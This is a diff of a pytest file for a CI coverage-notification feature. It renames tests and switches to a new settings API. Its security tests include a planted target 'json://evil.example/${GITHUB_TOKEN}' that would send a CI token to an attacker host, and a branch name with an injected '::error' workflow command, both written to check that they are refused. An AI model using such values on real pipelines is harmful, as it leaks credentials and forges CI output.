@@ -2,31 +2,31 @@ from __future__ import annotations
 
 from collections.abc import Mapping
 from dataclasses import replace
-from datetime import time, timedelta
+from datetime import timedelta
 
 import pytest
 from msgspec import structs
 
-from covgov.ci.interface import CiContext, Event
+from covgov.ci.interface import CiContext, CiEvent
 from covgov.errors import NotConfigured, PolicyInvalid
 from covgov.model.verdict import Verdict
-from covgov.policy.notification import NotifyPolicy, Occasion, QuietHours
+from covgov.policy.delivery import NotifySettings, Occasion
 from covgov.policy.policy import Policy
 from covgov.publish.channels.interface import Parcel
 from covgov.publish.channels.notify import NOTIFY, digest_parcels
 from covgov_testing.builders import verdict as build
-from covgov_testing.builders.publication import MAIN, NOW, RUN, below, dropped, publication, telling
+from covgov_testing.builders.publication import MAIN, NOW, RUN, alerting, below, dropped, publication, telling
 from covgov_testing.receivers import receiver
 
 A, B = "${A}", "${B}"
 RED, GREEN = build.verdict(below(), dropped()), build.verdict()
 
 
-def parcels(now: Verdict, before: Verdict | None, notify: NotifyPolicy, ci: CiContext = MAIN) -> list[Parcel]:
+def parcels(now: Verdict, before: Verdict | None, notify: NotifySettings, ci: CiContext = MAIN) -> list[Parcel]:
     return list(NOTIFY.parcels(publication(now, before, notify=notify, ci=ci)))
 
 
-def why(notify: NotifyPolicy, ci: CiContext = MAIN, now: Verdict = RED) -> str:
+def why(notify: NotifySettings, ci: CiContext = MAIN, now: Verdict = RED) -> str:
     assert not parcels(now, None, notify, ci)
     return NOTIFY.silence(publication(now, notify=notify, ci=ci))
 
@@ -42,15 +42,15 @@ def test_a_target_of_several_occasions_gets_one_message() -> None:
     assert RUN in one.body["teams"]
 
 
-def test_each_target_hears_what_it_wants_to_hear() -> None:
-    notify = NotifyPolicy({Occasion.DROP: (A, B), Occasion.UNDER_BAR: (B,)}, required=frozenset({B}))
+def test_each_target_gets_its_occasions() -> None:
+    notify = alerting({Occasion.DROP: (A, B), Occasion.UNDER_BAR: (B,)}, required=(B,))
     first, second = parcels(RED, None, notify)
     assert (first.destination, first.subject.partition(": ")[2]) == (A, "dropped: api")
     assert (second.destination, second.subject.partition(": ")[2]) == (B, "dropped: api; under the bar: api")
     assert (first.required, second.required) == (False, True)
 
 
-def test_nothing_is_sent_while_the_state_stays() -> None:
+def test_an_unchanged_state_sends_nothing() -> None:
     notify = telling(*Occasion)
     assert parcels(RED, RED, notify) == []
     assert len(parcels(GREEN, RED, notify)) == 1
@@ -69,7 +69,7 @@ def test_nothing_is_sent_while_the_state_stays() -> None:
     ],
 )
 def test_branches_are_filtered(branches: tuple[str, ...], branch: str, sent: bool) -> None:
-    notify = replace(telling(Occasion.DROP), branches=branches)
+    notify = telling(Occasion.DROP).model_copy(update={"branches": branches})
     assert bool(parcels(RED, None, notify, replace(MAIN, branch=branch))) is sent
 
 
@@ -78,27 +78,26 @@ def test_without_a_known_default_branch_every_branch_alerts() -> None:
 
 
 @pytest.mark.security
-def test_a_default_branch_is_a_name_and_no_pattern() -> None:
+def test_a_default_branch_is_not_a_pattern() -> None:
     assert not parcels(RED, None, telling(Occasion.DROP), replace(MAIN, branch="ab", default_branch="a*"))
 
 
 @pytest.mark.security
-@pytest.mark.parametrize("event", [Event.PULL_REQUEST, Event.MERGE_QUEUE])
-def test_a_pull_request_alerts_nobody_even_from_a_branch_called_main(event: Event) -> None:
-    assert why(replace(telling(Occasion.DROP), branches=("main",)), replace(MAIN, event=event)) == (
-        "pull requests alert nobody"
-    )
+@pytest.mark.parametrize("event", [CiEvent.PULL_REQUEST, CiEvent.MERGE_QUEUE])
+def test_a_pull_request_sends_no_alert_even_from_a_branch_called_main(event: CiEvent) -> None:
+    notify = alerting({Occasion.DROP: (A,)}, branches=("main",))
+    assert why(notify, replace(MAIN, event=event)) == "pull requests alert nobody"
 
 
-def test_quiet_hours_are_kept() -> None:
-    notify = replace(telling(Occasion.DROP), quiet=QuietHours(time(11), time(13)))
+def test_quiet_hours_are_respected() -> None:
+    notify = alerting({Occasion.DROP: (A,)}, quiet_hours="11:00-13:00")
     assert why(notify) == "quiet hours until 13:00 UTC"
     later = publication(RED, notify=notify, at=NOW + timedelta(hours=1))
     assert len(NOTIFY.parcels(later)) == 1
 
 
-def test_silence_has_a_reason() -> None:
-    assert why(NotifyPolicy()) == "[notify] names no target"
+def test_having_nothing_to_send_has_a_reason() -> None:
+    assert why(NotifySettings()) == "[notify] names no target"
     assert why(telling(Occasion.DIGEST)) == "[notify] names no target"
     assert why(telling(Occasion.DROP), now=GREEN) == "nothing changed that a target wants to hear of"
     assert why(telling(Occasion.DROP), replace(MAIN, branch="x\n::error")) == r"branch x\n::error is none of main"
@@ -106,9 +105,9 @@ def test_silence_has_a_reason() -> None:
 
 
 @pytest.mark.security
-def test_a_target_that_is_written_out_is_refused_whatever_happened() -> None:
+def test_a_literal_target_is_always_refused() -> None:
     with pytest.raises(PolicyInvalid, match=r"notify\.on_drop\[1\]"):
-        parcels(GREEN, GREEN, NotifyPolicy({Occasion.DROP: (A, "slack://T0/B0/C0")}))
+        parcels(GREEN, GREEN, alerting({Occasion.DROP: (A, "slack://T0/B0/C0")}))
 
 
 def test_sending_reads_the_address_from_the_environment() -> None:
@@ -120,7 +119,7 @@ def test_sending_reads_the_address_from_the_environment() -> None:
     assert str(got.json["message"]).startswith("FAIL: acme/shop, branch main")
 
 
-def test_without_the_variable_nothing_is_tried() -> None:
+def test_without_the_variable_nothing_is_sent() -> None:
     (one,) = parcels(RED, None, telling(Occasion.DROP, target=A))
     env: Mapping[str, str] = {"B": "json://127.0.0.1/"}
     with pytest.raises(NotConfigured, match=r"^A is not set$"):
@@ -129,7 +128,7 @@ def test_without_the_variable_nothing_is_tried() -> None:
 
 @pytest.mark.security
 def test_a_spooled_parcel_goes_only_where_the_policy_sends_one() -> None:
-    policy = replace(Policy(), notify=telling(Occasion.DROP, target=A))
+    policy = Policy(notify=telling(Occasion.DROP, target=A))
     (one,) = parcels(RED, None, policy.notify)
     assert NOTIFY.refusal(one, policy) == ""
     planted = replace(one, body={**one.body, "target": "json://evil.example/${GITHUB_TOKEN}"})
@@ -142,8 +141,8 @@ DIGEST = (
 )
 
 
-def test_the_digest_goes_to_those_who_want_it() -> None:
-    notify = NotifyPolicy({Occasion.DIGEST: (A,), Occasion.DROP: (B,)}, quiet=QuietHours(time(0), time(23, 59)))
+def test_the_digest_goes_to_its_subscribers() -> None:
+    notify = alerting({Occasion.DIGEST: (A,), Occasion.DROP: (B,)}, quiet_hours="00:00-23:59")
     (one,) = digest_parcels(DIGEST, notify, MAIN, "acme/shop")
     assert (one.destination, one.subject) == (A, "Coverage digest 2026-W47: acme/shop")
     assert one.body["severity"] == "info"
